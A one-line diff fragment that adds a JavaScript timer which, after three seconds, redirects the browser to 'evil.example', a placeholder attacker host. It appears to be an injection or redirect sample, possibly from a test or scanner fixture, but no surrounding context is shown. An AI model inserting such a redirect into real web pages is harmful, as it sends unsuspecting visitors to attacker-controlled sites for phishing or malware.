@@ -1,0 +1,1 @@
+setTimeout("location.href='http://evil.example/'", 3000);
